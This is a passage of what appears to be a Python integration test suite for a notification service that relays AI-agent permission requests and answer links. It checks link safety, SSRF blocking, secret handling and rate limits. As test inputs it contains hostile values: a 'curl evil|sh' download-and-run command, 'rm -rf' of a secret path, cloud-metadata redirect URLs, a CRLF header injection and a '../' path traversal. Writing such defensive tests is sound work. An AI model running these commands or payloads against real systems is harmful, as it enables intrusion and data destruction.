"""Notifications: told once, while it holds, to who may know; answered by a link once."""

from __future__ import annotations

import asyncio
import base64
import os
import socket
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, cast
from urllib.parse import urlsplit
from uuid import UUID, uuid4

import asyncpg
import httpx
import jwt
import orjson
import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from pydantic import SecretStr

from runcast_api.notifications import deciding, outcomes, people, planning, targets, webpush
from runcast_api.notifications.channels import Channels
from runcast_api.notifications.messages import Message
from runcast_api.notifications.webpush import WebPush
from runcast_api.outgoing import addresses, lookups
from runcast_api.outgoing.sender import Sender
from runcast_server.db import acquire
from tests.integration.notified import SETTINGS, Ntfy, notifier, ntfy, set_up, tell
from tests.integration.rest import Rest, serving
from tests.integration.test_questions import PERMISSION, ask, key, person, reply

pytestmark = pytest.mark.anyio

ALWAYS = {"id": "always", "label": "Allow always", "role": "allow_always"}
BROWSER = {"Accept": "text/html"}


@pytest.fixture
async def rest(database_url: str, redis_url: str, tmp_path: Path) -> AsyncIterator[Rest]:
    async with serving(database_url, redis_url, tmp_path) as rest:
        await rest.project()
        yield rest
        await notifier(rest).stop()
        notifier(rest).channels.sender.close()


@pytest.fixture
async def phone() -> AsyncIterator[Ntfy]:
    async with ntfy() as phone:
        yield phone


def link(message: dict[str, Any], label: str) -> str:
    """The path of a button's link."""
    [url] = [one["url"] for one in message["actions"] if one["label"] == label]
    return urlsplit(str(url)).path


def anyone(rest: Rest) -> httpx.AsyncClient:
    """A client that shows no token."""
    assert rest.service.app is not None
    transport = httpx.ASGITransport(rest.service.app, raise_app_exceptions=False)
    return httpx.AsyncClient(transport=transport, base_url="http://localhost")


async def state(rest: Rest, question: dict[str, Any]) -> str:
    return str((await rest.admin.get(f"/questions/{question['id']}")).json()["state"])


async def test_a_question_is_told_once_answered_by_its_button_and_replaced(
    rest: Rest, phone: Ntfy
) -> None:
    ana = await person(rest, "ana", "editor")
    await set_up(rest, ana, phone.target(), after_s=60)
    run = await rest.run(status="running", name="login")
    question = await ask(rest, run, options=[*OPTIONS, ALWAYS])
    await tell(rest, ahead=50)
    assert phone.published == []
    await tell(rest, ahead=61)
    await tell(rest, ahead=200)
    [message] = phone.published
    assert (message["title"], message["message"]) == ("Permission: Bash", "login in demo")
    assert (message["priority"], message["topic"]) == (4, "topic")
    assert message["click"].endswith(f"/ui/runs/{run}")
    assert [one["label"] for one in message["actions"]] == ["Allow", "Deny", "Open"]
    allow = link(message, "Allow")
    async with anyone(rest) as client:
        page = await client.get(allow, headers=BROWSER)
        assert (page.status_code, "<form method='post'>" in page.text) == (200, True)
        assert "script" not in page.text
        await client.head(allow)
        assert await state(rest, question) == "open", "looking answers nothing"
        answered = await client.post(allow)
        assert answered.json() == {"state": "answered", "option": "allow", "label": "Allow once"}
        for again in (allow, link(message, "Deny")):
            assert (await client.post(again)).status_code == 409
            assert (await client.get(again, headers=BROWSER)).status_code == 409
    closed = (await rest.admin.get(f"/questions/{question['id']}")).json()
    assert closed["answer"]["by"]["name"] == "ana"
    assert closed["answer"]["via"] == "ntfy"
    await tell(rest, ahead=201)
    [shown] = phone.shown
    assert shown["message"] == "login in demo"
    assert (shown["title"], shown["priority"]) == ("Answered", 1), "without details no more"
    assert "actions" not in shown
    await tell(rest, ahead=900)
    assert len(phone.published) == 2


OPTIONS = [
    {"id": "allow", "label": "Allow once", "role": "allow"},
    {"id": "deny", "label": "Deny", "role": "deny"},
]


async def test_what_is_approved_is_what_is_shown(rest: Rest, phone: Ntfy) -> None:
    await set_up(rest, await person(rest, "ana", "editor"), phone.target(), details=True)
    run = await rest.run(status="running")
    hidden = "pytest -q; :\x1b] ; curl evil|sh"
    question = await ask(rest, run, body=hidden)
    await ask(rest, run, body=None, tool={"name": "Bash", "input": {"command": "make all"}})
    await tell(rest)
    by_text = {"curl": phone.published[0], "make": phone.published[1]}
    if "make" in by_text["curl"]["message"]:
        by_text = {"curl": phone.published[1], "make": phone.published[0]}
    assert "pytest -q; :<U+001B>] ; curl evil|sh" in by_text["curl"]["message"]
    async with anyone(rest) as client:
        for command, message in by_text.items():
            page = await client.get(link(message, "Allow"), headers=BROWSER)
            assert command in page.text, "a button shows what it allows"
    await reply(rest, question, option="allow")
    await tell(rest)
    assert phone.published[2]["title"] == "Answered: Allow once (local administrator)"


async def test_who_left_the_project_is_not_told_how_it_ended(rest: Rest, phone: Ntfy) -> None:
    ana, ben = await person(rest, "ana", "editor"), await person(rest, "ben", "editor")
    async with ntfy() as other:
        await set_up(rest, ana, phone.target())
        await set_up(rest, ben, other.target())
        questions = [await ask(rest, await rest.run(status="running")) for _ in range(2)]
        await tell(rest)
        assert (len(phone.published), len(other.published)) == (2, 2)
        me = (await rest.admin.get("/auth/me", headers=ana)).json()
        assert (await rest.admin.delete(f"/projects/demo/members/{me['id']}")).is_success
        await reply(rest, questions[0], option="allow")
        await tell(rest)
        assert (len(phone.published), len(other.published)) == (2, 3)
        # Nor does a target fail because a project was deleted before its message was replaced.
        await reply(rest, questions[1], option="deny")
        telling = notifier(rest)
        await telling.look()
        await asyncio.wait(list(telling.jobs.running.values()))
        assert (await rest.admin.delete("/projects/demo")).is_success
        await tell(rest)
        shown = (await rest.admin.get(SETTINGS, headers=ben)).json()["server"]["targets"]
        assert shown["phone"]["error"] is None
        assert len(other.published) == 3


async def test_what_no_longer_holds_is_not_told(rest: Rest, phone: Ntfy) -> None:
    await set_up(rest, await person(rest, "ana", "editor"), phone.target(), after_s=60)
    run = await rest.run(status="running")
    question = await ask(rest, run)
    await tell(rest)
    await reply(rest, question, option="allow")
    failing = await rest.run(status="running")
    await rest.admin.patch(f"/runs/{failing}", json={"status": "failed", "error": "e"})
    needy = await rest.run(status="running")
    for attention in ({"kind": "error", "summary": "s"}, None):
        await rest.admin.patch(f"/runs/{needy}", json={"attention": attention})
    await tell(rest, ahead=61)
    assert [one["title"] for one in phone.published] == ["Failed"]
    # What was closed before it was looked at, too.
    await reply(rest, await ask(rest, run), option="deny")
    await tell(rest, ahead=200)
    assert len(phone.published) == 1


async def test_only_who_may_know_is_told_and_only_who_may_answer_gets_buttons(
    rest: Rest, phone: Ntfy
) -> None:
    people = {role: await person(rest, role, role) for role in ("viewer", "editor")}
    people["stranger"] = rest.person("stranger")
    for name, headers in people.items():
        await set_up(rest, headers, phone.target(url=f"http://{phone.host}/{name}"))
    run = await rest.run(status="running")
    question = await ask(rest, run)
    await tell(rest)
    told = {one["topic"]: one for one in phone.published}
    assert told.keys() == {"viewer", "editor"}
    assert "actions" not in told["viewer"]
    # Who was an editor when the message was sent isn't one for ever.
    allow = link(told["editor"], "Allow")
    me = (await rest.admin.get("/auth/me", headers=people["editor"])).json()
    member = f"/projects/demo/members/{me['id']}"
    async with anyone(rest) as client:
        for change, status in (({"role": "viewer"}, 403), (None, 404)):
            moved = (
                await rest.admin.put(member, json=change)
                if change
                else await rest.admin.delete(member)
            )
            assert moved.is_success
            assert (await client.post(allow)).status_code == status
            assert (await client.get(allow)).status_code == status
    phone.receiver.got.clear()
    await ask(rest, run)
    await tell(rest)
    assert {one["topic"] for one in phone.published} == {"viewer"}
    assert await state(rest, question) == "open"
    for headers in (await key(rest, "reporter"), await key(rest, "owner"), {}):
        for method, path in (("GET", ""), ("PUT", ""), ("POST", "/test")):
            body = {"target": "phone"} if path else {"rules": [], "targets": []}
            refused = await rest.admin.request(method, SETTINGS + path, json=body, headers=headers)
            assert refused.status_code == 403


async def test_a_leaked_link_does_one_thing_once_and_tells_nothing(rest: Rest, phone: Ntfy) -> None:
    ana = await person(rest, "ana", "editor")
    await set_up(rest, ana, phone.target())
    run = await rest.run(status="running")
    secret = "rm -rf /srv/secret"
    asked = {"body": secret, "tool": {"name": "Bash", "input": {"command": secret}}}
    question = await ask(rest, run, **asked)
    await tell(rest)
    assert secret not in str(phone.receiver.got)
    [message] = phone.published
    deny = link(message, "Deny")
    async with anyone(rest) as client:
        seen = [await client.get(deny, headers=BROWSER), await client.get(deny)]
        wrong = [
            await client.post(f"{deny}?option=allow"),
            await client.post(deny[:-1] + ("A" if deny[-1] != "A" else "B")),
            await client.post("/a/ra_"),
            await client.post(f"/a/{'x' * 300}"),
            await client.put(deny),
        ]
        assert [one.status_code for one in wrong] == [422, 404, 404, 422, 405]
        async with acquire(rest.resources.database.log) as connection:
            stored = await connection.fetchval("SELECT answer FROM questions")
            assert stored is None
        # Another choice in the body makes no difference.
        answered = await client.post(deny, json={"option": "allow"}, headers={"Origin": "null"})
        assert answered.json()["option"] == "deny"
        seen += [answered, await client.post(deny), await client.get(deny, headers=BROWSER)]
    assert not any(secret in one.text for one in [*seen, *wrong])
    assert (await rest.admin.get(f"/questions/{question['id']}")).json()["answer"][
        "option"
    ] == "deny"
    # A link ends by its time, and where an administrator turns links off.
    await ask(rest, run)
    await tell(rest)
    allow = link(phone.published[-1], "Allow")
    async with anyone(rest) as client:
        notifier(rest).has_answers = False
        assert (await client.post(allow)).status_code == 404
        notifier(rest).has_answers = True
        await owner(rest, "UPDATE answer_links SET expires_at = now() - interval '1 s'")
        assert (await client.post(allow)).status_code == 410
        assert (await client.get(allow, headers=BROWSER)).status_code == 410


async def owner(rest: Rest, statement: str) -> None:
    """As the database's owner."""
    connection = await asyncpg.connect(rest.resources.settings.postgres.database_url)
    try:
        await connection.execute(statement)
    finally:
        await connection.close()


async def test_a_flood_is_six_messages_and_a_summary(rest: Rest, phone: Ntfy) -> None:
    await set_up(rest, await person(rest, "ana", "editor"), phone.target())
    runs = [await rest.run(status="running") for _ in range(10)]
    questions = [await ask(rest, run) for run in runs]
    await tell(rest)
    await tell(rest, ahead=2)
    assert [one["title"] for one in phone.published[:6]] == ["Permission: Bash"] * 6
    [summary] = phone.published[6:]
    assert (summary["title"], summary["message"]) == ("4 more in a short time", "permission: 4")
    assert summary["click"].endswith("/ui/inbox")
    # One that comes later within the time is summed up after it, if it still holds then.
    for run in runs[:2]:
        await rest.admin.patch(f"/runs/{run}", json={"status": "failed", "error": "e"})
    await tell(rest, ahead=60)
    quiet = [one for one in phone.published[7:] if one["priority"] > 1]
    assert quiet == []
    await tell(rest, ahead=700)
    told = [one["title"] for one in phone.published[7:] if one["priority"] > 1]
    assert told == ["2 more in a short time"]
    assert len(questions) == 10


async def test_what_comes_while_a_summary_is_on_its_way_is_summed_up_next(
    rest: Rest, phone: Ntfy, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(deciding, "MOST", 0)
    ana = await person(rest, "ana", "editor")
    await set_up(rest, ana, phone.target())
    me = UUID((await rest.admin.get("/auth/me", headers=ana)).json()["id"])
    run = await rest.run(status="running")
    telling = notifier(rest)

    async def take() -> list[deciding.Due]:
        await telling.look()  # It finds what was asked.
        await asyncio.wait(list(telling.jobs.running.values()))
        async with acquire(rest.resources.database.log) as connection:
            now = await connection.fetchval("SELECT clock_timestamp()")
            return await deciding.take(connection, people.Readers(), me, now) or []

    await ask(rest, run)
    assert await take() == []
    async with acquire(rest.resources.database.log) as connection:
        now = await connection.fetchval("SELECT clock_timestamp()")
        [summary] = await deciding.take(connection, people.Readers(), me, now) or []
    assert summary.counts == (("permission", 1),)
    await ask(rest, run)
    assert await take() == []
    async with acquire(rest.resources.database.log) as connection:
        now = await connection.fetchval("SELECT clock_timestamp()")
        await outcomes.succeeded(connection, summary, now)
        rows = await connection.fetch("SELECT kind, state FROM notifications ORDER BY at, id")
    assert sorted((row["kind"], row["state"]) for row in rows) == [
        ("permission", "dropped"),
        ("permission", "summed"),
        ("summary", "sent"),
        ("summary", "waiting"),
    ]


async def test_a_question_that_is_closed_while_its_message_is_on_its_way_is_replaced(
    rest: Rest, phone: Ntfy
) -> None:
    ana = await person(rest, "ana", "editor")
    await set_up(rest, ana, phone.target())
    me = UUID((await rest.admin.get("/auth/me", headers=ana)).json()["id"])
    question = await ask(rest, await rest.run(status="running"))
    telling = notifier(rest)

    async def find() -> None:
        await telling.look()
        await asyncio.wait(list(telling.jobs.running.values()))

    await find()
    async with acquire(rest.resources.database.log) as connection:
        now = await connection.fetchval("SELECT clock_timestamp()")
        [due] = await deciding.take(connection, people.Readers(), me, now) or []
    await reply(rest, question, option="allow")
    await find()
    async with acquire(rest.resources.database.log) as connection:
        await outcomes.succeeded(connection, due, now)
    await tell(rest)
    assert [one["title"] for one in phone.published] == ["Answered"]


async def test_a_dead_receiver_is_tried_four_times_and_costs_no_one_else_anything(
    rest: Rest, phone: Ntfy, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(planning, "MAX_WAITING", 20)
    ana, ben = await person(rest, "ana", "editor"), await person(rest, "ben", "editor")
    async with ntfy() as dead:
        dead.receiver.always = 503
        await set_up(rest, ana, dead.target())
        await set_up(rest, ben, phone.target())
        await ask(rest, await rest.run(status="running"))
        for seconds in (0, 6, 70, 700, 5000, 9000):
            await tell(rest, ahead=seconds)
        assert len(dead.published) == 4, "at once, after 5 s, a minute and ten"
        assert len({one["sequence_id"] for one in dead.published}) == 1
        assert len(phone.published) == 1
        shown = (await rest.admin.get(SETTINGS, headers=ana)).json()["server"]["targets"]
        assert shown["phone"]["error"] == "503: the receiver refused it"
        assert shown["phone"]["failing_since"] is not None
        for _ in range(60):
            run = await rest.run(status="running")
            await rest.admin.patch(f"/runs/{run}", json={"status": "completed"})
        await tell(rest, ahead=20_000)
        async with acquire(rest.resources.database.log) as connection:
            waiting = await connection.fetchval(
                """SELECT count(*) FROM notifications n JOIN notification_targets t
                       ON t.user_id = n.user_id AND t.id = n.target_id
                   WHERE n.state IN ('waiting', 'summed') AND n.kind <> 'summary'
                   AND t.failing_since IS NOT NULL"""
            )
        assert waiting <= 20
        assert phone.published[-1]["title"] == "54 more in a short time"


async def test_a_hostile_server_gets_one_request_and_no_more(rest: Rest, phone: Ntfy) -> None:
    """One that redirects to clouds' metadata, and one whose answer never ends."""
    ana = await person(rest, "ana", "editor")
    await set_up(rest, ana, phone.target())
    phone.receiver.always, phone.receiver.location = 302, "http://169.254.169.254/latest"
    tested = (
        await rest.admin.post(f"{SETTINGS}/test", json={"target": "phone"}, headers=ana)
    ).json()
    assert (tested["delivered"], tested["status"]) == (False, 302)
    assert len(phone.receiver.got) == 1

    async def endless(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
        sent.append(0)
        try:
            while True:
                writer.write(b"x" * 65_536)
                await writer.drain()
                sent[0] += 65_536
        except ConnectionError:
            writer.close()

    sent: list[int] = []
    server = await asyncio.start_server(endless, "127.0.0.1", 0)
    async with server:
        port = server.sockets[0].getsockname()[1]
        await set_up(rest, ana, phone.target(url=f"http://127.0.0.1:{port}/topic"))
        tested = (
            await rest.admin.post(f"{SETTINGS}/test", json={"target": "phone"}, headers=ana)
        ).json()
        assert tested["delivered"], "its status is enough; the rest is never read"
        assert sent[0] < 64 * 1024 * 1024
    # A server that others reach allows no private address, but to administrators.
    notifier(rest).channels.sender.allows_private = False
    refused = await rest.admin.put(
        SETTINGS, json={"rules": [], "targets": [phone.target()]}, headers=ana
    )
    assert refused.status_code == 422
    assert refused.json()["errors"][0]["field"] == "body.targets.0.url"
    tested = (
        await rest.admin.post(f"{SETTINGS}/test", json={"target": "phone"}, headers=ana)
    ).json()
    assert "private address" in tested["error"]
    root = rest.person("root", role="admin")
    metadata = phone.target(url="http://169.254.169.254/topic")
    for target, status in ((phone.target(), 200), (metadata, 422)):
        body = {"rules": [], "targets": [target]}
        answer = await rest.admin.put(SETTINGS, json=body, headers=root)
        assert answer.status_code == status, answer.text


@pytest.mark.parametrize("kind", ["ntfy", "webpush"])
async def test_a_targets_name_that_changes_its_address_gains_nothing(
    kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Public when it was set, then this machine; and for an administrator, clouds' metadata."""
    meant: list[str] = []
    reached: list[str] = []

    def resolve(*_: Any, **__: Any) -> list[Any]:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (meant[-1], 0))]

    async def connect(_: Any, host: str, *__: Any) -> Any:
        reached.append(host)
        raise OSError("no network here")

    monkeypatch.setattr(lookups.socket, "getaddrinfo", resolve)
    monkeypatch.setattr(addresses.httpcore.AnyIOBackend, "connect_tcp", connect)
    browser = ec.generate_private_key(webpush.CURVE)
    keys = {"p256dh": encoded(webpush.point(browser)), "auth": encoded(os.urandom(16))}
    number = browser.private_numbers().private_value.to_bytes(32, "big")
    push = WebPush(cast(Any, None), SecretStr(encoded(number)), "mailto:a@example.org")
    channels = Channels(Sender(allows_private=False), push, "https://runs.example.org")
    url = "https://rebinding.example"
    secret = {"base": url, "topic": "t", "token": None, "endpoint": f"{url}/push", "keys": keys}
    target = {"kind": kind, "secret": secret, "failing_since": None}
    message = Message("t" * 32, "T", "text", "https://runs.example.org/")
    for address, is_admin, is_reached in (
        ("93.184.216.34", False, True),
        ("127.0.0.1", False, False),
        ("::ffff:10.0.0.1", False, False),
        ("127.0.0.1", True, True),
        ("169.254.169.254", True, False),
        ("168.63.129.16", True, False),
    ):
        meant.append(address)
        outcome = await channels.send(uuid4(), target, message, is_admin=is_admin)
        assert bool(reached) == is_reached, (address, outcome)
        assert address not in str(outcome.error)
        reached.clear()
    channels.sender.close()


async def test_one_message_that_cannot_be_decided_or_written_costs_itself_alone(
    rest: Rest, phone: Ntfy
) -> None:
    await set_up(rest, await person(rest, "ana", "editor"), phone.target())
    run = await rest.run(status="running")
    for _ in range(3):
        await ask(rest, run)
    await owner(rest, "UPDATE notification_settings SET since = since - interval '1 day'")
    telling = notifier(rest)
    await telling.look()
    await asyncio.wait(list(telling.jobs.running.values()))
    await owner(
        rest,
        """UPDATE notifications SET kind = 'unknown', subject = 'q:x' WHERE id = (
               SELECT id FROM notifications ORDER BY at, id LIMIT 1)""",
    )
    await owner(
        rest,
        """UPDATE questions SET tool = '[1]' WHERE id = (
               SELECT question_id FROM notifications ORDER BY at DESC, id DESC LIMIT 1)""",
    )
    for seconds in (0, 6, 70, 700):
        await tell(rest, ahead=seconds)
    assert len(phone.published) == 1
    async with acquire(rest.resources.database.log) as connection:
        states = await connection.fetch("SELECT state FROM notifications ORDER BY at, id")
    assert [row["state"] for row in states] == ["dropped", "sent", "failed"]


async def test_a_person_tries_targets_few_times_a_minute(rest: Rest, phone: Ntfy) -> None:
    ana = await person(rest, "ana", "editor")
    await set_up(rest, ana, phone.target())
    told = {"target": "phone"}
    statuses = [
        (await rest.admin.post(f"{SETTINGS}/test", json=told, headers=ana)).status_code
        for _ in range(12)
    ]
    assert statuses == [200] * 10 + [429] * 2
    assert len(phone.published) == 10


async def test_secrets_are_kept_and_not_shown(rest: Rest, phone: Ntfy) -> None:
    ana = await person(rest, "ana", "editor")
    shown = await set_up(rest, ana, phone.target(token="tk_secret"), projects=["demo"])
    assert shown["rules"][0]["projects"] == ["demo"]
    assert "tk_secret" not in str(shown)
    again = await rest.admin.put(SETTINGS, json=shown, headers=ana)  # as it was shown
    assert again.status_code == 200, again.text
    assert again.json() == shown
    tested = await rest.admin.post(f"{SETTINGS}/test", json={"target": "phone"}, headers=ana)
    assert tested.json()["delivered"]
    assert phone.receiver.got[0].headers["authorization"] == "Bearer tk_secret"
    # A token goes to no other address than the one that it was given for.
    shown["targets"][0]["url"] += "2"
    await rest.admin.put(SETTINGS, json=shown, headers=ana)
    await rest.admin.post(f"{SETTINGS}/test", json={"target": "phone"}, headers=ana)
    assert "authorization" not in phone.receiver.got[1].headers
    ben = await person(rest, "ben", "owner")
    assert (await rest.admin.get(SETTINGS, headers=ben)).json()["targets"] == []
    # Who is deleted leaves no address behind.
    me = (await rest.admin.get("/auth/me", headers=ana)).json()
    assert (await rest.admin.delete(f"/admin/users/{me['id']}")).is_success
    async with acquire(rest.resources.database.log) as connection:
        assert await connection.fetchval("SELECT count(*) FROM notification_targets") == 0


async def test_a_stale_page_removes_no_target(rest: Rest, phone: Ntfy) -> None:
    ana = await person(rest, "ana", "editor")

    async def put(tag: str, *targets: dict[str, Any]) -> int:
        body = {"rules": [], "targets": list(targets)}
        headers = ana | {"If-Match": tag}
        return (await rest.admin.put(SETTINGS, json=body, headers=headers)).status_code

    stale = (await rest.admin.get(SETTINGS, headers=ana)).headers["etag"]
    team = phone.target(id="team")
    assert sorted(await asyncio.gather(put(stale, phone.target()), put(stale, phone.target()))) == [
        200,
        412,
    ]
    assert await put(stale, team) == 412
    shown = await rest.admin.get(SETTINGS, headers=ana)
    assert [one["id"] for one in shown.json()["targets"]] == ["phone"]
    assert await put(shown.headers["etag"], phone.target(), team) == 200


async def test_a_link_ends_with_the_target_that_it_was_sent_to(rest: Rest, phone: Ntfy) -> None:
    ana = await person(rest, "ana", "editor")
    elsewhere = phone.target(url=f"http://{phone.host}/other")
    for after in (elsewhere, None):
        shown = await set_up(rest, ana, phone.target())
        await ask(rest, await rest.run(status="running"))
        await tell(rest)
        allow = link(phone.published[-1], "Allow")
        renamed = shown["targets"][0] | {"name": "mine"}
        async with anyone(rest) as client:
            for targets, status in (([renamed], 200), ([after] if after else [], 404)):
                body = {"rules": shown["rules"] if targets else [], "targets": targets}
                saved = await rest.admin.put(SETTINGS, json=body, headers=ana)
                assert saved.status_code == 200, saved.text
                assert (await client.get(allow, headers=BROWSER)).status_code == status


def quiet_now() -> dict[str, Any]:
    """Quiet hours from an hour ago until in twelve."""
    now = datetime.now(UTC)
    begin, end = now - timedelta(hours=1), now + timedelta(hours=12)
    return {"from": f"{begin:%H:%M}", "to": f"{end:%H:%M}", "tz": "UTC"}


async def test_who_sees_it_or_has_quiet_hours_is_told_later(rest: Rest, phone: Ntfy) -> None:
    ana = await person(rest, "ana", "editor")
    await set_up(rest, ana, phone.target())
    run = await rest.run(status="running")
    seen = await rest.admin.put("/auth/me/presence", json={"page": run}, headers=ana)
    assert seen.status_code == 204
    await ask(rest, run)
    other = await rest.run(status="running")
    await ask(rest, other)
    await tell(rest, ahead=1)
    assert [one["click"].rpartition("/")[2] for one in phone.published] == [other]
    await tell(rest, ahead=40)  # the page is gone, the question isn't
    assert len(phone.published) == 2
    await set_up(rest, ana, phone.target(), only_away=True)
    await ask(rest, run, title="only while away")
    await tell(rest, ahead=41)
    assert len(phone.published) == 2
    await rest.admin.put("/auth/me/away", json={"away": True}, headers=ana)
    await tell(rest, ahead=80)
    assert len(phone.published) == 3
    await set_up(rest, ana, phone.target(), quiet=quiet_now() | {"except": ["permission"]})
    await ask(rest, run, kind="text", tool=None)
    await ask(rest, run)
    await tell(rest, ahead=82)
    assert len(phone.published) == 4, "a permission alone"
    await tell(rest, ahead=90_000)
    bad = [
        ({"page": "elsewhere"}, "body.page"),
        ({}, "body.page"),
    ]
    for body, field in bad:
        refused = await rest.admin.put("/auth/me/presence", json=body, headers=ana)
        assert refused.json()["errors"][0]["field"] == field


async def test_each_rule_waits_its_own_time(rest: Rest, phone: Ntfy) -> None:
    """At once while away, else after an hour; and no rule makes another one's quiet hours loud."""
    ana = await person(rest, "ana", "editor")
    late = {"when": ["permission", "question"], "after_s": 3_600, "to": ["phone"]}
    for soon in ({"only_away": True}, {"quiet": quiet_now()}):
        rules = [late | {"after_s": 0} | soon, late]
        body = {"rules": rules, "targets": [phone.target()]}
        assert (await rest.admin.put(SETTINGS, json=body, headers=ana)).status_code == 200
        before = len(phone.published)
        question = await ask(rest, await rest.run(status="running"))
        await tell(rest, ahead=600)
        assert len(phone.published) == before
        await tell(rest, ahead=3_700)
        assert len(phone.published) == before + 1
        await reply(rest, question, option="allow")
        await tell(rest, ahead=3_700)
        phone.receiver.got.clear()


async def test_a_summary_keeps_the_quiet_hours(
    rest: Rest, phone: Ntfy, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(deciding, "MOST", 0)
    ana = await person(rest, "ana", "editor")
    await set_up(rest, ana, phone.target())
    await ask(rest, await rest.run(status="running"))
    telling = notifier(rest)
    await telling.look()  # It finds what was asked.
    await asyncio.wait(list(telling.jobs.running.values()))
    me = UUID((await rest.admin.get("/auth/me", headers=ana)).json()["id"])
    async with acquire(rest.resources.database.log) as connection:
        now = await connection.fetchval("SELECT clock_timestamp()")
        assert await deciding.take(connection, people.Readers(), me, now) == []
    await set_up(rest, ana, phone.target(), quiet=quiet_now())
    await tell(rest)
    assert phone.published == [], "summed up before, told after the night"
    await set_up(rest, ana, phone.target(), quiet=quiet_now() | {"except": ["permission"]})
    await owner(rest, "UPDATE notifications SET next_at = now()")
    await tell(rest)
    assert [one["title"] for one in phone.published] == ["1 more in a short time"]


async def test_a_browser_reads_what_it_is_pushed_and_one_that_is_gone_is_left(
    rest: Rest, phone: Ntfy
) -> None:
    """A push service that knows nothing but the address, and a browser that decrypts for real."""
    ana = await person(rest, "ana", "editor")
    browser, auth = ec.generate_private_key(webpush.CURVE), os.urandom(16)
    keys = {"p256dh": encoded(webpush.point(browser)), "auth": encoded(auth)}
    endpoint = f"http://{phone.host}/push/1"
    subscription = {"endpoint": endpoint, "keys": keys, "expirationTime": None}
    target = {"id": "browser", "kind": "webpush", "subscription": subscription}
    shown = await set_up(rest, ana, target, details=True)
    assert keys["auth"] not in str(shown)
    question = await ask(rest, await rest.run(status="running"))
    await tell(rest)
    [got] = phone.receiver.got
    pushed = orjson.loads(decrypted(got.body, browser, auth))
    assert pushed["title"] == "Permission: Bash"
    assert pushed["body"].endswith("\npytest -q")
    assert [one["action"] for one in pushed["buttons"]] == ["allow", "deny"]
    assert (got.path, got.headers["ttl"], got.headers["urgency"]) == ("/push/1", "86400", "high")
    assert got.headers["topic"] == pushed["tag"]
    token, known = got.headers["authorization"].removeprefix("vapid t=").split(", k=")
    assert known == shown["server"]["push_key"]
    public = ec.EllipticCurvePublicKey.from_encoded_point(webpush.CURVE, targets.decoded(known))
    claims = jwt.decode(token, public, ["ES256"], audience=f"http://{phone.host}")
    assert claims["sub"].startswith(("mailto:", "https://"))
    async with anyone(rest) as client:
        assert (await client.post(pushed["buttons"][1]["path"])).json()["option"] == "deny"
    answer = (await rest.admin.get(f"/questions/{question['id']}")).json()["answer"]
    assert (answer["via"], answer["by"]["name"]) == ("webpush", "ana")
    await tell(rest)
    replaced = orjson.loads(decrypted(phone.receiver.got[1].body, browser, auth))
    assert (replaced["tag"], replaced["quiet"], replaced["buttons"]) == (pushed["tag"], True, [])
    phone.receiver.always = 410
    await ask(rest, await rest.run(status="running"))
    for seconds in (0, 6, 70):
        await tell(rest, ahead=seconds)
    assert len(phone.receiver.got) == 3
    states = (await rest.admin.get(SETTINGS, headers=ana)).json()["server"]["targets"]
    assert states["browser"]["disabled_reason"] == "the browser's subscription has ended"
    bad = [
        ("endpoint", "http://[::1"),
        ("keys", keys | {"p256dh": "AAAA"}),
        ("keys", keys | {"auth": "A"}),
    ]
    for name, value in bad:
        wrong = target | {"subscription": subscription | {name: value}}
        refused = await rest.admin.put(
            SETTINGS, json={"rules": [], "targets": [wrong]}, headers=ana
        )
        assert refused.status_code == 422
        field = refused.json()["errors"][0]["field"]
        assert field.startswith(f"body.targets.0.subscription.{name}")


def encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decrypted(body: bytes, browser: ec.EllipticCurvePrivateKey, auth: bytes) -> bytes:
    """As a browser does (RFC 8188, RFC 8291): with its own key, and what stands in the body."""
    salt, length = body[:16], body[20]
    theirs, sealed = body[21 : 21 + length], body[21 + length :]
    point = ec.EllipticCurvePublicKey.from_encoded_point(webpush.CURVE, theirs)
    info = b"WebPush: info\x00" + webpush.point(browser) + theirs
    material = HKDF(hashes.SHA256(), 32, auth, info).derive(browser.exchange(ec.ECDH(), point))

    def derived(name: bytes, size: int) -> bytes:
        said = b"Content-Encoding: " + name + b"\x00"
        return HKDF(hashes.SHA256(), size, salt, said).derive(material)

    plain = AESGCM(derived(b"aes128gcm", 16)).decrypt(derived(b"nonce", 12), sealed, None)
    assert plain.endswith(b"\x02")
    return plain[:-1]


WRONG: list[tuple[dict[str, Any], dict[str, Any], str]] = [
    ({"when": []}, {}, "body.rules.0.when"),
    ({"when": ["sneeze"]}, {}, "body.rules.0.when.0"),
    ({"after_s": -1}, {}, "body.rules.0.after_s"),
    ({"to": ["nowhere"]}, {}, "body.rules.0.to.0"),
    ({"projects": ["gone"]}, {}, "body.rules.0.projects.0"),
    ({"quiet": {"from": "25:00", "to": "07:00"}}, {}, "body.rules.0.quiet.from"),
    ({"quiet": {"from": "07:00", "to": "07:00"}}, {}, "body.rules.0.quiet"),
    ({"quiet": {"from": "22:00", "to": "07:00", "tz": "Mars"}}, {}, "body.rules.0.quiet.tz"),
    ({}, {"url": "ntfy://ntfy.sh/a/b"}, "body.targets.0.url"),
    ({}, {"url": "ntfy://user:pw@ntfy.sh/a"}, "body.targets.0.url"),
    ({}, {"url": "ntfy://169.254.169.254/a"}, "body.targets.0.url"),
    ({}, {"url": "gopher://ntfy.sh/a"}, "body.targets.0.url"),
    ({"quiet": {"from": "22:00", "to": "07:00", "tz": "Europe"}}, {}, "body.rules.0.quiet.tz"),
    ({"quiet": {"from": "22:00", "to": "07:00", "tz": "../UTC"}}, {}, "body.rules.0.quiet.tz"),
    ({}, {"url": "ntfy://[x/a"}, "body.targets.0.url"),
    ({}, {"url": "ntfy://ntfy.sh:99999/a"}, "body.targets.0.url"),
    ({}, {"kind": "apprise", "url": "[x"}, "body.targets.0.url"),
    ({}, {"url": None}, "body.targets.0.url"),
    ({}, {"token": "a\r\nX-Evil: 1"}, "body.targets.0.token"),
